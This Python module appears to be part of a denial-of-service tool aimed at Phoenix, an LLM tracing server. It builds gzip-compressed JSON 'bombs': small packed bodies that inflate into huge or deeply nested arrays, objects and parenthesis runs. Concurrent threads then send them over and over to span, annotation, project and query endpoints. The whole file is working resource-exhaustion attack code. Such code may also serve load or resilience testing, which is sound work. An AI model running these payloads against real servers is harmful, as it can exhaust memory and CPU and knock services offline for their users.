"""Phoenix's JSON routes: small packed bodies that become large trees of values."""
import gzip
import itertools
import json

from . import wire
from .poison import repeat
from .target import GZIP, JSON

SPAN = {"name": "n", "span_kind": "LLM", "status_code": "OK", "start_time": "2026-11-15T08:00:00+00:00", "end_time": "2026-11-15T08:00:01+00:00"}


def span_with(attributes):
    context = {"trace_id": wire.new_trace_id().hex(), "span_id": wire.new_span_id().hex()}
    return json.dumps({"data": [{**SPAN, "context": context, "attributes": "@"}]}).replace('"@"', attributes)


def annotation_with(metadata):
    one = {"name": "n", "annotator_kind": "LLM", "span_id": "aaaaaaaaaaaaaaaa", "result": {"label": "x"}, "metadata": "@"}
    return json.dumps({"data": [one]}).replace('"@"', metadata)


def bombs(project, nodes):
    """(path, body) of each shape."""
    spans, dense = f"/v1/projects/{project}/spans", repeat("[0],", nodes)
    return [
        (spans, span_with('{"a":[' + dense + "0]}")),
        (spans, span_with('{"a":[' + repeat('{"":0},', nodes) + "0]}")),
        (spans, span_with("{" + repeat('"a":0,', nodes) + '"b":0}')),
        (spans, span_with('{"a":' + "[" * nodes + "]" * nodes + "}")),
        (spans, span_with('{"llm":{"input_messages":[' + repeat('{"message":{}},', nodes // 3) + "{}]}}")),
        (spans, '{"data":[' + repeat("{},", nodes) + "{}]}"),
        (spans, '{"data":[],"x":[' + dense + "0]}"),
        ("/v1/span_annotations", annotation_with('{"a":[' + dense + "0]}")),
        ("/v1/trace_annotations", '{"data":[' + repeat("{},", nodes) + "{}]}"),
        ("/v1/session_annotations", '{"data":[' + dense + "{}]}"),
        ("/v1/document_annotations", '{"data":[' + dense + "{}]}"),
        ("/v1/span_notes", '{"data":{"note":[' + dense + "0]}}"),
        ("/v1/projects", '{"name":"x","description":[' + dense + "0]}"),
        ("/api/v1/annotations", '{"items":[' + repeat("{},", nodes) + "{}]}"),
    ]


def attack_routes(target):
    shapes = bombs(target.project, target.sizes.nodes)
    packed = [(path, gzip.compress(body.encode(), 6)) for path, body in shapes]
    yield
    turns = itertools.count()

    def send(_):
        path, body = packed[next(turns) % len(packed)]
        target.send(path, body, {**JSON, **GZIP}, 0)

    target.run_threads(target.sizes.senders, send)


def attack_queries(target):
    """Questions that are posted: span queries with trees where names are expected."""
    nodes = target.sizes.nodes
    shapes = ['{"queries":[' + repeat("{},", nodes) + "{}]}", '{"queries":[{"select":{' + ",".join(f'"{one}":{{"key":"a"}}' for one in range(nodes // 20)) + "}}]}",
              '{"queries":[{"filter":{"condition":"' + "(" * (nodes // 2) + '"}}]}', '{"queries":[],"x":[' + repeat("[0],", nodes) + "0]}"]
    packed = [gzip.compress(one.encode(), 6) for one in shapes]
    yield
    turns = itertools.count()
    headers = {**JSON, **GZIP, **target.key_headers("read")}
    target.run_threads(target.sizes.senders, lambda _: target.request("POST", "/v1/spans?project_name=seed", packed[next(turns) % len(packed)], headers))
